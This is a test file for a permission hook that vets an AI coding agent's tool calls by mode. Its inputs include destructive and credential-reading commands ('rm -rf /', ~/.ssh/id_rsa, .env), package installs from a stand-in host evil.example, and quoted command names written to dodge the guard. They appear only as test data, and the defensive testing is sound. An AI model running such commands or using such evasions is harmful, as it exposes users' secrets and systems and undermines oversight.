import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createProjectTrust } from "@toolkeep/node";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { runHook } from "../../packages/cli/src/hooks/answer/run-hook.ts";
import type { CliBench } from "./cli-bench.ts";
import { hookBench, writePolicy } from "./hook-bench.ts";

let bench: CliBench;
beforeEach(() => {
  bench = hookBench();
  vi.stubEnv("CLAUDE_CONFIG_DIR", undefined);
  execFileSync("git", ["init", "-q", "."], { cwd: bench.project });
  bench.write("package.json", '{ "scripts": { "test": "node --test" }, "dependencies": {} }');
});
afterEach(() => {
  vi.unstubAllEnvs();
  bench.remove();
});

const MODES = ["default", "acceptEdits", "auto", "plan", "bypassPermissions", "dontAsk"] as const;
type Mode = (typeof MODES)[number];

interface Setting {
  readonly attended?: "0";
  readonly event?: string;
}

async function answered(mode: Mode, tool: string, input: object, { attended, event }: Setting = {}) {
  const payload = {
    ...{ session_id: crypto.randomUUID(), cwd: bench.project, permission_mode: mode, tool_use_id: "toolu_1" },
    ...{ hook_event_name: event ?? "PreToolUse", tool_name: tool, tool_input: input },
  };
  const { stdout, stderr } = await runHook({
    client: "claude-code",
    text: JSON.stringify(payload),
    environment: {
      CLAUDE_PROJECT_DIR: bench.project,
      ...(attended === undefined ? {} : { CLAUDE_CODE_SESSION_ATTENDED: attended }),
    },
  });
  expect(stderr).toBe("");
  return JSON.parse(stdout);
}

async function said(...call: Parameters<typeof answered>): Promise<string> {
  return (await answered(...call)).hookSpecificOutput?.permissionDecision ?? "nothing";
}
const bash = (mode: Mode, command: string, setting?: Setting) => said(mode, "Bash", { command }, setting);
const inModes = async (ask: (mode: Mode) => Promise<string>) =>
  Object.fromEntries(await Promise.all(MODES.map(async (mode) => [mode, await ask(mode)] as const)));
const all = (answer: string, others: Partial<Record<Mode, string>> = {}) => ({
  ...Object.fromEntries(MODES.map((mode) => [mode, answer])),
  ...others,
});
const at = (path: string) => ({ file_path: join(bench.project, path), content: "x" });

async function trust(): Promise<void> {
  await createProjectTrust({ decide: () => "trust" }).of(bench.project);
}

const USER = (...rules: readonly string[]) =>
  `version: 1\nextends: [toolkeep:recommended]\nrules:\n${rules.map((rule) => `  - ${rule}\n`).join("")}`;

describe("[editor B1] what is answered depends on the client's mode", () => {
  test("a command whose name is in quotes is not left to the client", async () => {
    expect(await bash("default", "claude --dangerously-skip-permissions -p x")).toBe("nothing");
    for (const name of ["'claude'", '"claude"', "c''laude", "\\claude"])
      expect(await bash("default", `${name} --dangerously-skip-permissions -p x`)).toBe("ask");
  });

  test("what the recommended rules allow is left to the client in every mode", async () => {
    expect(await inModes((mode) => bash(mode, "git status"))).toEqual(all("nothing"));
    expect(await inModes((mode) => said(mode, "Write", at("src/a.ts")))).toEqual(all("nothing"));
    expect(await inModes((mode) => bash(mode, 'git commit -m "x"'))).toEqual(all("nothing"));
  });

  test("what a rule of the user's allows is allowed, but not while the client only plans", async () => {
    writePolicy(bench, USER('allow shell.run "make *"'));
    expect(await inModes((mode) => bash(mode, "make all"))).toEqual(all("allow", { plan: "nothing" }));
    expect(await bash("default", "make all | tail -5")).toBe("allow");
    expect(await bash("auto", "make all && git add -A")).toBe("nothing");
    expect(await bash("default", "make all && docker compose up")).not.toBe("allow");
  });

  test("a call that no rule matches is left to a client that asks by itself, and asked about elsewhere", async () => {
    const asked = all("nothing", { auto: "ask", bypassPermissions: "ask" });
    expect(await inModes((mode) => bash(mode, "hugo build"))).toEqual(asked);
    expect(await inModes((mode) => bash(mode, "chroot / hugo"))).toEqual(all("ask", { dontAsk: "deny" }));
    expect(await inModes((mode) => said(mode, "mcp__linear__create_issue", {}))).toEqual(asked);
    expect(
      await inModes((mode) => said(mode, "WebFetch", { url: "https://somewhere.example/?q=1" })),
    ).toEqual(asked);
    expect(await inModes((mode) => said(mode, "TimeTravel", {}))).toEqual(all("ask", { dontAsk: "deny" }));
  });

  test("a form of a command that the client may take for reading is asked about by us", async () => {
    for (const command of [
      "git log --output=../x",
      "ps auxe",
      "jq -n env",
      "hostname evil",
      "nice -n 5 hugo build",
      "true && timeout 9 hugo build",
      "npm outdated --registry https://evil.example",
    ])
      expect([command, await bash("default", command)]).toEqual([command, "ask"]);
  });

  test("a file command outside of the workspace is asked about where the client accepts edits", async () => {
    const outside = `touch ${join(bench.home, "x")}`;
    expect(await bash("acceptEdits", outside)).toBe("ask");
    expect(await said("acceptEdits", "Write", { file_path: join(bench.home, "x"), content: "" })).toBe("ask");
  });

  test("a rule and a watchdog ask in every mode; a mode that asks no user denies", async () => {
    const ask = all("ask", { dontAsk: "deny" });
    expect(await inModes((mode) => bash(mode, "rm src/old.js"))).toEqual(ask);
    expect(await inModes((mode) => said(mode, "Write", at(".github/workflows/ci.yml")))).toEqual(ask);
    expect(await inModes((mode) => said(mode, "Write", at("Makefile")))).toEqual(ask);
  });

  test("a denial is one in every mode", async () => {
    expect(await inModes((mode) => bash(mode, "git push --force"))).toEqual(all("deny"));
    expect(
      await inModes((mode) => said(mode, "Read", { file_path: join(bench.home, ".ssh/id_rsa") })),
    ).toEqual(all("deny"));
  });
});

describe("[editor B1] keys, publishing and Toolkeep itself, where no user answers", () => {
  const asked = all("ask", { bypassPermissions: "deny", dontAsk: "deny" });

  test.each([
    ["keys", "Bash", { command: "cat .env" }],
    ["publishing", "Bash", { command: "git push" }],
    ["publishing", "Bash", { command: "npm publish" }],
    ["Toolkeep itself", "Bash", { command: "rm .claude/settings.json" }],
    ["Toolkeep itself", "Bash", { command: "echo '{}' > .mcp.json" }],
  ])("%s: %s %o", async (_what, tool, input) => {
    bench.write(".env", "KEY=1");
    bench.write(".claude/settings.json", "{}");
    expect(await inModes((mode) => said(mode, tool, input))).toEqual(asked);
    for (const mode of ["default", "auto", "acceptEdits"] as const)
      expect(await said(mode, tool, input, { attended: "0" })).toBe("deny");
  });

  test("by a tool", async () => {
    for (const file of [".env", ".claude/settings.local.json", ".mcp.json", ".cursor/hooks.json"])
      expect([file, await said("bypassPermissions", "Write", at(file))]).toEqual([file, "deny"]);
    const config = join(bench.environment.TOOLKEEP_HOME, "config/policy.yaml");
    expect(await said("bypassPermissions", "Write", { file_path: config, content: "mode: yolo" })).toBe(
      "deny",
    );
  });

  test("the denial names the mode and what to type", async () => {
    const { hookSpecificOutput } = await answered("bypassPermissions", "Bash", { command: "git push" });
    expect(hookSpecificOutput.permissionDecisionReason).toContain(
      "in the mode bypassPermissions a question about publishing may reach no user",
    );
  });

  test("a rule of the user's that asks, asks", async () => {
    writePolicy(bench, 'version: 1\nrules:\n  - ask git.push "*"\n');
    expect(await bash("bypassPermissions", "git push")).toBe("ask");
  });

  test("another program that answers for the user by a hook is no user", async () => {
    const hooks = (command: string) => ({
      hooks: { PermissionRequest: [{ matcher: "*", hooks: [{ type: "command", command }] }] },
    });
    mkdirSync(join(bench.home, ".claude"), { recursive: true });
    const write = (command: string) =>
      writeFileSync(join(bench.home, ".claude/settings.json"), JSON.stringify(hooks(command)));
    write("/usr/bin/node /x/main.js hook claude-code || exit 2");
    expect(await bash("default", "git push")).toBe("ask");
    write("approve-everything");
    expect(await bash("default", "git push")).toBe("deny");
    expect(await bash("default", "rm src/old.js")).toBe("ask");
  });
});

describe("a mode with few questions, in a trusted project", () => {
  const FEW = ["auto", "bypassPermissions"] as const;
  const manifest = (added: string) => ({
    file_path: join(bench.project, "package.json"),
    old_string: '"dependencies": {}',
    new_string: `"dependencies": { ${added} }`,
  });
  const MILD: readonly (readonly [string, () => object])[] = [
    ["Bash", () => ({ command: "npm install zod --ignore-scripts" })],
    ["Bash", () => ({ command: "npm i -D --ignore-scripts @types/node@24 2>&1 | tail -3" })],
    ["Bash", () => ({ command: `node -e "import('./src/cart.js').then(m=>console.log(m.add(1,2)))"` })],
    ["WebFetch", () => ({ url: "https://somewhere.example/api", prompt: "x" })],
    ["Edit", () => manifest('"zod": "^4.0.0"')],
  ];
  beforeEach(() =>
    bench.write("package.json", '{\n  "scripts": { "test": "node --test" },\n  "dependencies": {}\n}\n'),
  );

  test.each(MILD)("leaves what can be read from the call itself: %s %#", async (tool, input) => {
    for (const mode of FEW) expect(await said(mode, tool, input())).toBe("ask");
    await trust();
    for (const mode of FEW) expect(await said(mode, tool, input())).toBe("nothing");
  });

  test("names the form of an install that runs no scripts, to the model and not to the user", async () => {
    const command = "npm install -D zod 2>&1 | tail -3";
    for (const mode of FEW) expect(await bash(mode, command)).toBe("ask");
    await trust();
    for (const mode of FEW) {
      const { hookSpecificOutput: output } = await answered(mode, "Bash", { command });
      expect(output.permissionDecision).toBe("deny");
      const [, instead = ""] = output.permissionDecisionReason.split("needs no approval: ");
      expect(instead).toBe("npm install --ignore-scripts -D zod 2>&1 | tail -3");
      expect(await bash(mode, instead)).toBe("nothing");
      expect(await bash(mode, "npm rebuild zod")).toBe("ask");
    }
    for (const mode of ["default", "acceptEdits", "plan", "dontAsk"] as const)
      expect(await bash(mode, command)).toBe("nothing");
    writePolicy(bench, USER('allow shell.run "npm install *"'));
    expect(await bash("auto", command)).toBe("allow");
  });

  test.each([
    "npm install",
    "npm install evil/x --ignore-scripts",
    "cd src && npm install zod --ignore-scripts",
    "npm_config_registry=https://evil.example npm install zod --ignore-scripts",
    `node -e "import('./src/cart.js').then(m=>process.exit())"`,
    `node -e "import('./scripts/gen.js').then(m=>console.log(m.run()))"`,
    `NODE_OPTIONS=--require=/tmp/x.js node -e "import('./src/cart.js').then(m=>console.log(m.add()))"`,
    "hugo build",
  ])("asks about %s", async (command) => {
    await trust();
    for (const mode of FEW) expect(["ask", "deny"]).toContain(await bash(mode, command));
  });

  test("asks about other changes of a manifest", async () => {
    await trust();
    for (const added of [
      '"zod": "git+https://evil.example/x.git"',
      '"zod": "evil/x"',
      '"zod": "file:../x"',
      '"zod": "npm:evil@1"',
      '"zod": "1.0.0" }, "bin": { "x": "./x.js"',
    ])
      expect([added, await said("auto", "Edit", manifest(added))]).toEqual([added, "ask"]);
    const scripts = { ...manifest(""), old_string: "node --test", new_string: "sh x" };
    expect(await said("auto", "Edit", scripts)).toBe("ask");
  });
});

describe("[editor A4] the client's own permission entries", () => {
  const entries = (permissions: object) =>
    bench.write(".claude/settings.json", JSON.stringify({ permissions }));

  test("an allow entry applies to what no rule of ours matches, in every mode", async () => {
    await trust();
    entries({ allow: ["Bash(hugo:*)", "Bash(rm:*)", "WebFetch(domain:somewhere.example)"] });
    expect(await inModes((mode) => bash(mode, "hugo build"))).toEqual(all("nothing"));
    expect(
      await inModes((mode) => said(mode, "WebFetch", { url: "https://somewhere.example/?q=1" })),
    ).toEqual(all("nothing"));
    expect(await bash("auto", "rm src/old.js")).toBe("ask");
  });

  test("our allow does not skip a deny or ask entry", async () => {
    writePolicy(bench, USER('allow shell.run "make *"'));
    for (const list of ["deny", "ask"]) {
      entries({ [list]: ["Bash(make deploy:*)"] });
      expect(await bash("bypassPermissions", "make deploy")).toBe("nothing");
      expect(await bash("default", "make all")).toBe("allow");
    }
  });
});

describe("PermissionRequest, before the client asks its user", () => {
  const setting = { event: "PermissionRequest" };

  test("is denied if the policy denies what another hook made of the call", async () => {
    const answer = await answered("default", "Bash", { command: "rm -rf /" }, setting);
    expect(answer.hookSpecificOutput).toMatchObject({
      hookEventName: "PermissionRequest",
      decision: { behavior: "deny" },
    });
  });

  test("is never allowed by us, and is not recorded as another call", async () => {
    writePolicy(bench, USER('allow shell.run "make *"'));
    for (const command of ["make all", "hugo build", "git push"])
      expect(await answered("default", "Bash", { command }, setting)).toEqual({});
  });
});
